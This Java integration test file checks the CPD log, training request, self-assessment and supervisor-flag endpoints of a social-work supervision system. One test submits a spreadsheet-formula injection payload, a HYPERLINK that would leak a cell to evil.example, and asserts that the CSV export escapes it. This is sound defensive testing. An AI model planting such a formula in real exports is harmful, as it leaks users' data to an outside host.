package org.supervision.learning;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.supervision.staff.StaffDirectoryImport;
import org.supervision.support.Fixtures;
import org.supervision.support.IntegrationTest;
import org.supervision.support.ProcessDriver;
import org.supervision.support.WebClient;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** CPD log and export, training requests, supervisor self-assessment and development flags over HTTP. */
@IntegrationTest
class LearningApiTest {

    @LocalServerPort int port;
    @Autowired ProcessEngine engine;
    @Autowired RuntimeService runtime;
    @Autowired TaskService tasks;
    @Autowired IdentityService identity;
    @Autowired StaffDirectoryImport directory;
    @Autowired TrainingRequestRepository requests;
    @Autowired CpdEntryRepository cpd;
    @Autowired PlanItemRepository planItems;
    @Autowired SupervisorSelfAssessmentRepository assessments;
    LearningTeams teams;

    @BeforeEach
    void setUp() {
        teams = new LearningTeams(directory, identity);
        Fixtures.today(LocalDate.of(2027, 3, 1));
    }

    WebClient as(String user) {
        return WebClient.basic(port, user, "demo");
    }

    @Test
    void aSuperviseeKeepsTheirCpdLogAndExportsItForHcpcAndOnlyThePartiesReadIt() throws Exception {
        teams.team("a1", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
        HttpResponse<String> added = as("lswa1").post("/api/staff/lswa1/cpd", "application/json", """
                {"activity": "Webinar: trauma-informed practice, with notes", "category": "E_LEARNING", "date": "2027-02-03",
                 "hours": "1.5", "reflection": "Changed how I open \\"difficult\\" visits", "evidenceLink": "https://example.org/notes/1"}""");
        assertThat(added.statusCode()).as(added.body()).isEqualTo(201);
        as("lswa1").post("/api/staff/lswa1/cpd", "application/json", """
                {"activity": "Reading: neglect toolkit", "date": "2027-01-15", "hours": 3}""");

        HttpResponse<String> invalid = as("lswa1").post("/api/staff/lswa1/cpd", "application/json", """
                {"activity": "Shadowing", "date": "2027-02-10", "hours": "0"}""");
        assertThat(invalid.statusCode()).isEqualTo(400);
        assertThat(invalid.body()).contains("\"field\":\"hours\"");
        HttpResponse<String> future = as("lswa1").post("/api/staff/lswa1/cpd", "application/json", """
                {"activity": "Conference", "date": "2027-06-10", "hours": "6"}""");
        assertThat(future.body()).contains("\"field\":\"date\"");
        assertThat(cpd.findByStaffIdOrderByActivityDateAscIdAsc("lswa1")).as("nothing of the refused entries stored").hasSize(2);
        assertThat(as("lsupa1").post("/api/staff/lswa1/cpd", "application/json", """
                {"activity": "Written for them", "date": "2027-02-10", "hours": "1"}""").statusCode())
                .as("only the member writes their log").isEqualTo(403);

        HttpResponse<String> export = as("lswa1").get("/api/staff/lswa1/cpd.csv");
        assertThat(export.statusCode()).isEqualTo(200);
        assertThat(export.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
        assertThat(export.headers().firstValue("Content-Disposition").orElse("")).contains("cpd-lswa1.csv");
        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new java.io.StringReader(export.body())).getRecords();
        assertThat(rows.get(0).toList()).containsExactly("date", "activity", "category", "hours", "reflection",
                "evidence_link", "training_request_id", "recorded_by");
        assertThat(rows.get(1).toList()).containsExactly("2027-01-15", "Reading: neglect toolkit", "OTHER", "3", "", "", "", "lswa1");
        assertThat(rows.get(2).toList()).containsExactly("2027-02-03", "Webinar: trauma-informed practice, with notes",
                "E_LEARNING", "1.5", "Changed how I open \"difficult\" visits", "https://example.org/notes/1", "", "lswa1");
        assertThat(rows).hasSize(3);

        assertThat(as("lsupa1").get("/api/staff/lswa1/cpd.csv").statusCode()).as("their supervisor").isEqualTo(200);
        assertThat(as("rkhan").get("/api/staff/lswa1/cpd").statusCode()).as("the line-management chain").isEqualTo(200);
        HttpResponse<String> colleague = as("zali").get("/api/staff/lswa1/cpd.csv");
        assertThat(colleague.statusCode()).as("another member of staff").isEqualTo(403);
        assertThat(as("hbaker").get("/api/staff/lswa1/cpd").statusCode()).as("HR").isEqualTo(403);
        assertThat(WebClient.anonymous(port).get("/api/staff/lswa1/cpd.csv").statusCode()).isEqualTo(401);
    }

    @Test
    void aCpdEntryWrittenLikeASpreadsheetFormulaIsExportedAsTextNotAsAFormula() throws Exception {
        teams.team("a6", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
        String formula = "=HYPERLINK(\\\"https://evil.example/?leak=\\\"&A1,\\\"Open the notes\\\")";
        HttpResponse<String> added = as("lswa6").post("/api/staff/lswa6/cpd", "application/json",
                "{\"activity\": \"" + formula + "\", \"date\": \"2027-02-03\", \"hours\": \"1.5\","
                        + " \"reflection\": \"@SUM(A1:A9)\"}");
        assertThat(added.statusCode()).as(added.body()).isEqualTo(201);

        HttpResponse<String> export = as("lswa6").get("/api/staff/lswa6/cpd.csv");

        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new java.io.StringReader(export.body())).getRecords();
        assertThat(rows.get(1).get(1)).as("the activity, shown as text with a leading quote")
                .isEqualTo("'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open the notes\")");
        assertThat(rows.get(1).get(4)).as("the reflection").isEqualTo("'@SUM(A1:A9)");
        assertThat(rows.get(1).get(3)).as("hours stay a number").isEqualTo("1.5");
        assertThat(export.body()).as("every cell is quoted, so no separator can start a new cell").doesNotContain(",=", ";=")
                .startsWith("\"date\",\"activity\",");
    }

    @Test
    void aSuperviseeRequestsTrainingThroughTheApiOrTasklistsStartForm() {
        teams.team("a2", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
        HttpResponse<String> api = as("lswa2").post("/api/training-requests", "application/json", """
                {"title": "Motivational interviewing", "category": "COURSE", "cost": "250",
                 "learningObjective": "Work with parents who are ambivalent about change"}""");
        assertThat(api.statusCode()).as(api.body()).isEqualTo(201);
        assertThat(api.body()).contains("\"status\":\"REQUESTED\"");
        HttpResponse<String> bad = as("lswa2").post("/api/training-requests", "application/json", """
                {"title": "Motivational interviewing", "category": "COURSE", "cost": "-5", "learningObjective": "x"}""");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(bad.body()).contains("\"field\":\"cost\"");

        // Tasklist's start form posts to the engine's REST API as the logged-in supervisee
        HttpResponse<String> form = as("lswa2").post("/engine-rest/process-definition/key/training-request/submit-form",
                "application/json", """
                {"variables": {"title": {"value": "Signs of Safety"}, "category": {"value": "E_LEARNING"},
                               "cost": {"value": "0"}, "learningObjective": {"value": "Use the framework in conferences"}}}""");
        assertThat(form.statusCode()).as(form.body()).isEqualTo(200);
        assertThat(requests.findByStaffIdOrderByIdAsc("lswa2")).extracting(TrainingRequest::getTitle)
                .containsExactly("Motivational interviewing", "Signs of Safety");
        Task decision = new ProcessDriver(engine).task(requests.findByStaffIdOrderByIdAsc("lswa2").get(1).getProcessInstanceId(),
                "lineManagerDecides");
        assertThat(decision.getAssignee()).isEqualTo("lsupa2");

        HttpResponse<String> list = as("lsupa2").get("/api/staff/lswa2/training-requests");
        assertThat(list.body()).contains("Motivational interviewing", "Signs of Safety");
        assertThat(as("zali").get("/api/staff/lswa2/training-requests").statusCode()).isEqualTo(403);
    }

    @Test
    void aSupervisorsSelfAssessmentGapsBecomeItemsOfTheirOwnPlan() {
        teams.team("a3", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
        teams.supervisorSupervised("a3", LocalDate.of(2023, 9, 4));
        long before = assessments.count();
        HttpResponse<String> invalid = as("lsupa3").post("/api/supervisors/me/self-assessment", "application/json", """
                {"reflectivePractice": 4, "supervisionSkills": 2, "policiesProcedures": 1, "pcf": 7}""");
        assertThat(invalid.statusCode()).isEqualTo(400);
        assertThat(invalid.body()).contains("\"field\":\"pcf\"", "must be between 1 and 5");
        assertThat(assessments.count()).as("nothing stored").isEqualTo(before);

        HttpResponse<String> assessed = as("lsupa3").post("/api/supervisors/me/self-assessment", "application/json", """
                {"reflectivePractice": 4, "supervisionSkills": 2, "policiesProcedures": 1, "pcf": 3,
                 "notes": "New to supervising ASYEs"}""");
        assertThat(assessed.statusCode()).as(assessed.body()).isEqualTo(201);
        assertThat(planItems.findByStaffIdOrderByIdAsc("lsupa3")).extracting(PlanItem::getNeed, PlanItem::getSource)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("Supervision skills: training in giving reflective supervision (self-assessed 2 of 5)", "SELF_ASSESSMENT"),
                        org.assertj.core.groups.Tuple.tuple("Principles, policies and procedures of supervision (self-assessed 1 of 5)", "SELF_ASSESSMENT"));

        // the supervisor's own plan task shows them, ready to be given activities
        String plan = runtime.createProcessInstanceQuery().processDefinitionKey("learning-plan")
                .processInstanceBusinessKey("lsupa3").singleResult().getId();
        Task agree = new ProcessDriver(engine).task(plan, "agreePlan");
        assertThat(agree.getAssignee()).as("the supervisor's own supervisor").isEqualTo("rkhan");
        assertThat(agree.getDueDate()).as("joined in 2015, before the product: 3 months from today")
                .isEqualTo(LearningPlanProcessTest.endOf(LocalDate.of(2027, 6, 1)));
        assertThat((String) tasks.getVariableLocal(agree.getId(), "planItems"))
                .contains("Supervision skills: training in giving reflective supervision", "Principles, policies and procedures");
        HttpResponse<String> collated = as("jcooper").get("/api/learning/open-needs");
        assertThat(collated.statusCode()).as("Learning and Development").isEqualTo(200);
        assertThat(collated.body()).contains("\"staffId\":\"lsupa3\"", "Principles, policies and procedures of supervision");
        assertThat(as("lsupa3").get("/api/learning/open-needs").statusCode()).isEqualTo(403);
        HttpResponse<String> own = as("lsupa3").get("/api/staff/lsupa3/learning-plan");
        assertThat(own.statusCode()).isEqualTo(200);
        assertThat(own.body()).contains("\"source\":\"SELF_ASSESSMENT\"");
    }

    @Test
    void seniorManagersSeeSupervisorsWithoutSupervisionTrainingOrSupervision() {
        teams.team("a4", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
        teams.team("a5", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
        teams.supervisorSupervised("a5", LocalDate.of(2023, 9, 4));
        as("lsupa5").post("/api/staff/lsupa5/cpd", "application/json", """
                {"activity": "Reflective supervision, module 1", "category": "SUPERVISION_SKILLS", "date": "2027-02-01", "hours": "7"}""");

        for (String manager : List.of("sahmed", "dmorgan")) {
            HttpResponse<String> flags = as(manager).get("/api/supervisors/development-flags");
            assertThat(flags.statusCode()).as(manager).isEqualTo(200);
            assertThat(flags.body()).contains("{\"supervisorId\":\"lsupa4\",\"name\":\"Lee Supa4\",\"supervisees\":1,"
                    + "\"flags\":[\"NO_SUPERVISION_TRAINING\",\"NOT_RECEIVING_SUPERVISION\"]}");
            assertThat(flags.body()).as("trained and supervised").doesNotContain("lsupa5");
        }
        assertThat(as("lswa4").get("/api/supervisors/development-flags").statusCode()).isEqualTo(403);
        assertThat(as("jcooper").get("/api/supervisors/development-flags").statusCode()).isEqualTo(403);
    }

    @Test
    void aTrainingRequestWhoseTextIsANumberAListOrAControlCharacterIsRefusedAndNotStored() {
        teams.team("a9", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
        for (String title : List.of("42", "[\"a\"]", "{\"a\": 1}", "\"\\u0000\"", "true")) {
            HttpResponse<String> refused = as("lswa9").post("/api/training-requests", "application/json",
                    "{\"title\": " + title + ", \"category\": \"COURSE\", \"cost\": 250, \"learningObjective\": \"Practice\"}");
            assertThat(refused.statusCode()).as(title).isEqualTo(400);
            assertThat(refused.body()).as(title).contains("\"field\":\"title\"").doesNotContain("Exception", "java.");
        }
        assertThat(requests.findByStaffIdOrderByIdAsc("lswa9")).as("nothing stored").isEmpty();
        assertThat(as("lswa9").post("/api/training-requests", "application/json",
                "{\"title\": \"Court skills\", \"category\": \"COURSE\", \"cost\": 250, \"learningObjective\": \"Practice\"}")
                .statusCode()).as("a cost given as a number is still a cost").isEqualTo(201);
    }
}
